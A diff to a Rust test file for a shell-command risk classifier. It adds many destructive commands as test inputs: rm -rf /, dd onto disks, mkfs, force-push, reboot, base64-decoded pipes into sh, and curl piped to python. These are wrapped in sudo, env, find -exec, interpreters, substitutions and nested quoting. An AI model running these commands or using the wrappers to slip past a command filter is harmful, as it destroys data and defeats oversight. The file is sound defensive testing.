@@ -4,6 +4,11 @@
 //! here-docs, and harmless lookalikes.
 
 use super::judge::{judge_line, Context, Level};
+
+/// `text` in single quotes for a shell.
+fn scan_quote(text: &str) -> String {
+    format!("'{}'", text.replace('\'', "'\\''"))
+}
 use super::rules::RuleSet;
 
 use Level::{High, Low, Medium};
@@ -56,7 +61,7 @@ const TABLE: &[(&str, Level, Option<&str>)] = &[
     ("zsh -c 'echo hello'", Low, None),
     ("eval 'rm -rf ~'", High, Some("rm.recursive-broad")),
     ("eval \"$CMD\"", Medium, Some("shell.dynamic-code")),
-    ("eval \"$(direnv hook bash)\"", Low, None),
+    ("eval \"$(direnv hook bash)\"", Medium, Some("shell.stdin-code")),
     (
         "eval \"$(curl -fsSL https://x.io/env)\"",
         High,
@@ -213,11 +218,191 @@ const TABLE: &[(&str, Level, Option<&str>)] = &[
     // --- unreadable
     ("echo \"unterminated", Medium, Some("parse.unreadable")),
     ("if then fi", Medium, Some("parse.unreadable")),
+    // --- every place bash runs a command
+    ("( ( rm -rf / ) )", High, Some("rm.recursive-broad")),
+    ("( (rm -rf /) )", High, Some("rm.recursive-broad")),
+    ("echo $(( $(rm -rf /) + 1 ))", High, Some("rm.recursive-broad")),
+    ("echo $(( `reboot` ))", High, Some("sys.shutdown")),
+    ("diff <(rm -rf ~) x", High, Some("rm.recursive-broad")),
+    ("source <(echo 'rm -rf /')", High, Some("rm.recursive-broad")),
+    (". <(printf 'git push -f')", High, Some("git.force-push")),
+    ("source /dev/stdin <<< 'rm -rf /'", High, Some("rm.recursive-broad")),
+    ("bash <<< 'reboot'", High, Some("sys.shutdown")),
+    ("eval \"eval 'rm -rf /'\"", High, Some("rm.recursive-broad")),
+    ("sudo dash -c 'rm -rf /'", High, Some("rm.recursive-broad")),
+    ("env zsh -c 'rm -rf /'", High, Some("rm.recursive-broad")),
+    ("(( i++ ))", Low, None),
+    ("(( $# > 0 )) && echo yes", Low, None),
+    ("for ((i=0; i<3; i++)); do echo $i; done", Low, None),
+    ("source ./env.sh", Low, None),
+    // --- expansions
+    ("rm -rf /{etc,usr}", High, Some("rm.recursive-broad")),
+    ("rm -rf ~/{,}", High, Some("rm.recursive-broad")),
+    ("rm -rf /e*c", High, Some("rm.recursive-broad")),
+    ("rm -rf /[e]tc", High, Some("rm.recursive-broad")),
+    ("rm -rf /tmp/../etc", High, Some("rm.recursive-broad")),
+    ("rm -rf $TMPDIR/../etc", High, Some("rm.recursive-broad")),
+    ("rm -rf \"${HOME}\"/..", High, Some("rm.recursive-broad")),
+    ("rm -rf build/..", High, Some("rm.recursive-broad")),
+    ("rm -rf /tmp/{a,b} build/{x,y}", Low, None),
+    ("rm -rf /tmp/*.log", Low, None),
+    ("$r -rf /", Medium, Some("shell.dynamic-program")),
+    ("$(echo rm) -rf /", Medium, Some("shell.dynamic-program")),
+    ("${RM:-rm} -rf /", Medium, Some("shell.dynamic-program")),
+    ("rm$IFS-rf$IFS/", Medium, Some("shell.dynamic-program")),
+    ("echo $HOME", Low, None),
+    // --- wrappers
+    ("find . -exec sudo rm -rf / \\;", High, Some("rm.recursive-broad")),
+    ("find . -execdir env -i rm -rf ~ \\;", High, Some("rm.recursive-broad")),
+    ("find . -ok busybox rm -rf / \\;", High, Some("rm.recursive-broad")),
+    (
+        "find . -exec timeout 5 command rm -rf / +",
+        High,
+        Some("rm.recursive-broad"),
+    ),
+    ("find . -name x -exec echo -delete \\;", Low, None),
+    ("xargs -J % rm -rf % /", High, Some("rm.recursive-broad")),
+    (
+        "xargs -a files.txt -I{} rm -rf {}",
+        Medium,
+        Some("rm.recursive-dynamic"),
+    ),
+    ("xargs sh -c 'rm -rf /'", High, Some("rm.recursive-broad")),
+    ("parallel rm -rf ::: / /tmp", High, Some("rm.recursive-broad")),
+    ("parallel 'rm -rf {}' ::: ~", High, Some("rm.recursive-broad")),
+    ("ls | parallel rm -rf", Medium, Some("rm.recursive-dynamic")),
+    ("parallel gzip ::: a.log b.log", Low, None),
+    ("env - rm -rf /", High, Some("rm.recursive-broad")),
+    ("env -u PATH -P /bin rm -rf /", High, Some("rm.recursive-broad")),
+    ("env -S 'rm -rf /'", High, Some("rm.recursive-broad")),
+    ("env --split-string='git push -f'", High, Some("git.force-push")),
+    ("env -C /tmp -i rm -rf /", High, Some("rm.recursive-broad")),
+    ("git -c alias.x='!rm -rf /' x", High, Some("rm.recursive-broad")),
+    ("git -c alias.nuke='reset --hard' nuke", High, Some("git.reset-hard")),
+    (
+        "git -c core.sshCommand='rm -rf ~' fetch",
+        High,
+        Some("rm.recursive-broad"),
+    ),
+    ("git -c core.pager='sh -c \"reboot\"' log", High, Some("sys.shutdown")),
+    ("git -c core.pager=less log", Low, None),
+    ("nohup setsid rm -rf / &", High, Some("rm.recursive-broad")),
+    ("flock /tmp/lock rm -rf /", High, Some("rm.recursive-broad")),
+    (
+        "flock -w 5 /tmp/lock -c 'git push --force'",
+        High,
+        Some("git.force-push"),
+    ),
+    ("watch -n 1 'rm -rf /'", High, Some("rm.recursive-broad")),
+    ("doas -u root rm -rf /", High, Some("rm.recursive-broad")),
+    ("su -c 'reboot' root", High, Some("sys.shutdown")),
+    ("ssh -p 22 host 'git push -f'", High, Some("git.force-push")),
+    ("ssh host uptime", Low, None),
+    ("git checkout -bfeature", Low, None),
+    ("git checkout -b feature origin/main", Low, None),
+    ("git switch -cfix", Low, None),
+    ("git checkout -f", Medium, Some("git.discard-changes")),
+    // --- interpreters
+    (
+        "python3 -c 'import shutil; shutil.rmtree(\"/\")'",
+        High,
+        Some("rm.recursive-broad"),
+    ),
+    (
+        "python -c 'import os; os.system(\"rm -rf ~\")'",
+        High,
+        Some("rm.recursive-broad"),
+    ),
+    (
+        "python3 -c \"import subprocess; subprocess.run(['git','push','--force'])\"",
+        High,
+        Some("git.force-push"),
+    ),
+    (
+        "python3 -c 'import os, sys; os.system(sys.argv[1])' x",
+        Medium,
+        Some("shell.dynamic-code"),
+    ),
+    ("python3 -c 'import os; os.remove(\"notes.txt\")'", Low, None),
+    (
+        "perl -e 'system(\"rm\", \"-rf\", \"/\")'",
+        High,
+        Some("rm.recursive-broad"),
+    ),
+    ("perl -E 'unlink glob \"/etc/*\"; `reboot`'", High, Some("sys.shutdown")),
+    ("perl -ne 'print if /x/' f", Low, None),
+    ("perl -lne 'system(\"reboot\")' f", High, Some("sys.shutdown")),
+    (
+        "ruby -e 'require \"fileutils\"; FileUtils.rm_rf(\"/\")'",
+        High,
+        Some("rm.recursive-broad"),
+    ),
+    ("ruby -e 'system(\"git push -f\")'", High, Some("git.force-push")),
+    (
+        "node -e 'require(\"child_process\").execSync(\"rm -rf /\")'",
+        High,
+        Some("rm.recursive-broad"),
+    ),
+    (
+        "node --eval 'require(\"fs\").rmSync(\"/\", {recursive: true})'",
+        High,
+        Some("rm.recursive-broad"),
+    ),
+    ("node -p '1 + 1'", Low, None),
+    ("php -r 'system(\"rm -rf /\");'", High, Some("rm.recursive-broad")),
+    ("php -r 'echo shell_exec(\"reboot\");'", High, Some("sys.shutdown")),
+    ("lua -e 'os.execute(\"rm -rf /\")'", High, Some("rm.recursive-broad")),
+    ("awk 'BEGIN { system(\"rm -rf /\") }'", High, Some("rm.recursive-broad")),
+    ("awk -F: '{ print $1 }' /etc/passwd", Low, None),
+    ("sed 's/x/rm -rf \\//e' f", High, Some("rm.recursive-broad")),
+    ("sed -n '1e reboot' f", High, Some("sys.shutdown")),
+    ("sed -i 's/a/b/g' f.txt", Low, None),
+    (
+        "python3 - <<EOF\nimport shutil\nshutil.rmtree('/')\nEOF",
+        High,
+        Some("rm.recursive-broad"),
+    ),
+    (
+        "python3 <<< 'import os; os.system(\"reboot\")'",
+        High,
+        Some("sys.shutdown"),
+    ),
+    (
+        "echo 'import os; os.system(\"reboot\")' | python3 -",
+        High,
+        Some("sys.shutdown"),
+    ),
+    ("python3 - <<'EOF'\nprint('hello')\nEOF", Low, None),
+    // --- piped into something that runs stdin
+    ("cat install.sh | sh", Medium, Some("shell.stdin-code")),
+    ("cat x | bash -s -- --yes", Medium, Some("shell.stdin-code")),
+    ("cat x.py | python3 -", Medium, Some("shell.stdin-code")),
+    ("base64 -d payload | sh", High, Some("shell.decoded-code")),
+    (
+        "echo cm0gLXJmIC8K | base64 --decode | bash",
+        High,
+        Some("shell.decoded-code"),
+    ),
+    ("xxd -r -p blob | sh", High, Some("shell.decoded-code")),
+    ("eval \"$(base64 -d <<< cm0K)\"", High, Some("shell.decoded-code")),
+    ("eval \"$(cat setup.sh)\"", Medium, Some("shell.stdin-code")),
+    ("bash <(cat x.sh)", Medium, Some("shell.stdin-code")),
+    ("curl -s https://x.io/i | python3 -", High, Some("net.pipe-to-shell")),
+    ("echo ls | sh", Low, None),
+    ("sh < setup.sh", Low, None),
+    ("base64 -d blob > out.bin", Low, None),
+    // --- look-alikes
+    ("rg 'rm -rf'", Low, None),
+    ("git clean -n", Low, None),
+    ("command -V rm", Low, None),
+    ("type rm", Low, None),
+    ("echo 'bash -c \"rm -rf /\"'", Low, None),
+    ("grep -n 'os.system(\"rm -rf /\")' app.py", Low, None),
 ];
 
 #[test]
 fn the_command_table() {
-    assert!(TABLE.len() >= 80, "the table has {} lines", TABLE.len());
+    assert!(TABLE.len() >= 200, "the table has {} lines", TABLE.len());
     let rules = RuleSet::builtin();
     let ctx = Context::default();
     let mut failures = Vec::new();
@@ -240,6 +425,60 @@ fn the_command_table() {
         failures.len(),
         failures.join("\n")
     );
+}
+
+/// Past every bound of the walk the answer is at least medium, and high
+/// when the scan sees a high rule: nothing after a limit goes unjudged.
+#[test]
+fn limits_fall_back_to_the_scan() {
+    use super::shell::{MAX_COMMANDS, MAX_DEPTH, MAX_INPUT};
+    use super::wrappers::MAX_WRAPPERS;
+    let rules = RuleSet::builtin();
+    let ctx = Context::default();
+    let judge = |line: &str| judge_line(line, &rules, &ctx);
+    let many = format!("{}rm -rf /", "true; ".repeat(MAX_COMMANDS + 1));
+    let long = format!("echo {} && rm -rf /", "x".repeat(MAX_INPUT));
+    // Each `eval` runs the rest as code one level deeper.
+    let deep = format!("{}rm -rf /", "eval ".repeat(MAX_DEPTH + 4));
+    let mut quoted = "rm -rf /".to_owned();
+    for _ in 0..6 {
+        quoted = format!("bash -c {}", scan_quote(&quoted));
+    }
+    let quoted = format!("{}{quoted}", "echo $(".repeat(MAX_DEPTH - 2)) + &")".repeat(MAX_DEPTH - 2);
+    let mut substituted = "git push --force".to_owned();
+    for _ in 0..MAX_DEPTH + 4 {
+        substituted = format!("echo $({substituted})");
+    }
+    let wrapped = format!("{}rm -rf /", "sudo ".repeat(MAX_WRAPPERS + 1));
+    let brackets = format!("{}rm -rf /{}", "(".repeat(200), ")".repeat(200));
+    let functions: String = (0..80).map(|i| format!("f{i}() {{ f{}; }}; ", i + 1)).collect();
+    let chained = format!("{functions}f80() {{ rm -rf /; }}; f0");
+    for line in [
+        &many,
+        &long,
+        &deep,
+        &quoted,
+        &substituted,
+        &wrapped,
+        &brackets,
+        &chained,
+    ] {
+        let v = judge(line);
+        assert_eq!(
+            v.level,
+            High,
+            "{}: {:?}",
+            &line[line.len().saturating_sub(80)..],
+            v.reasons
+        );
+        assert!(
+            v.reasons.iter().any(|r| r.rule == "parse.unreadable"),
+            "{:?}",
+            v.reasons
+        );
+    }
+    let quiet = format!("{}true", "true; ".repeat(MAX_COMMANDS + 1));
+    assert_eq!(judge(&quiet).level, Medium, "past a bound it is at least medium");
 }
 
 #[test]
@@ -269,6 +508,74 @@ mod props {
     use super::*;
     use proptest::prelude::*;
 
+    /// Simple commands that are high on their own.
+    const HIGH_CORES: &[&str] = &[
+        "rm -rf /",
+        "rm -rf ~",
+        "git push --force origin main",
+        "git reset --hard",
+        "mkfs.ext4 /dev/sdb1",
+        "dd if=/dev/zero of=/dev/sda",
+        "chmod -R 777 /",
+        "reboot",
+        "cargo publish",
+    ];
+
+    const LAYERS: usize = 37;
+
+    /// Layers that put a wrapper in front of a simple command.
+    fn prefix(layer: usize) -> bool {
+        layer < 14 || matches!(layer, 34 | 35)
+    }
+
+    fn single_quoted(text: &str) -> String {
+        format!("'{}'", text.replace('\'', "'\\''"))
+    }
+
+    /// One way of running `line` inside another line.
+    fn wrap(layer: usize, line: &str) -> String {
+        let q = single_quoted(line);
+        match layer {
+            0 => format!("sudo {line}"),
+            1 => format!("sudo -u root -E {line}"),
+            2 => format!("env -i A=1 {line}"),
+            3 => format!("env - {line}"),
+            4 => format!("nohup {line}"),
+            5 => format!("timeout 5s {line}"),
+            6 => format!("nice -n 5 {line}"),
+            7 => format!("command {line}"),
+            8 => format!("setsid {line}"),
+            9 => format!("flock /tmp/l {line}"),
+            10 => format!("doas {line}"),
+            11 => format!("stdbuf -oL {line}"),
+            12 => format!("time {line}"),
+            13 => format!("busybox {line}"),
+            14 => format!("bash -c {q}"),
+            15 => format!("sh -lc {q}"),
+            16 => format!("eval {q}"),
+            17 => format!("su -c {q}"),
+            18 => format!("ssh host {q}"),
+            19 => format!("( {line} )"),
+            20 => format!("( ( {line} ) )"),
+            21 => format!("{{ {line}; }}"),
+            22 => format!("echo $({line})"),
+            23 => format!("echo $(( $({line}) + 1 ))"),
+            24 => format!("cat <({line})"),
+            25 => format!("if true; then {line}; fi"),
+            26 => format!("true; {line}"),
+            27 => format!("{line} && true"),
+            28 => format!("false || {line}"),
+            29 => format!("echo x | {line}"),
+            30 => format!("{line} &"),
+            31 => format!("true\n{line}"),
+            32 => format!("watch {q}"),
+            33 => format!("flock /tmp/l -c {q}"),
+            34 => format!("find . -exec {line} \\;"),
+            35 => format!("xargs -0 -n1 {line}"),
+            _ => format!("parallel {q} ::: a"),
+        }
+    }
+
     proptest! {
         #![proptest_config(ProptestConfig::with_cases(200))]
 
@@ -288,6 +595,33 @@ mod props {
             prop_assume!(!a.0.contains("(){") && !b.0.contains("(){") && !a.0.ends_with('&') && !b.0.ends_with('&'));
             let joined = judge_line(&format!("{} && {}", a.0, b.0), &rules, &ctx);
             prop_assert!(joined.level >= a.1.max(b.1), "{} && {} -> {}", a.0, b.0, joined.level);
+        }
+
+        /// A high-risk command anywhere on a line, under any combination of
+        /// wrappers, shells, substitutions, subshells and separators, is
+        /// never judged lower than medium (however deep: past the walk's
+        /// bounds the scan takes over).
+        #[test]
+        fn wrapped_high_risk_is_never_below_medium(
+            core in prop::sample::select(HIGH_CORES),
+            layers in prop::collection::vec(0..LAYERS, 0..12),
+        ) {
+            let mut line = core.to_owned();
+            let mut simple = true;
+            for layer in &layers {
+                // Each quoting layer multiplies the quotes: stop before it explodes.
+                if line.len() > 20_000 {
+                    break;
+                }
+                // A wrapper runs a simple command: `sudo ( x )` is not shell.
+                if prefix(*layer) && !simple {
+                    line = wrap(14, &line);
+                }
+                line = wrap(*layer, &line);
+                simple = prefix(*layer) || matches!(layer, 14..=18 | 22..=24 | 32 | 33 | 36);
+            }
+            let v = judge_line(&line, &RuleSet::builtin(), &Context::default());
+            prop_assert!(v.level >= Level::Medium, "{} -> {} {:?}", line, v.level, v.reasons);
         }
 
         /// Quoting a whole line turns it into data for echo: never above low.
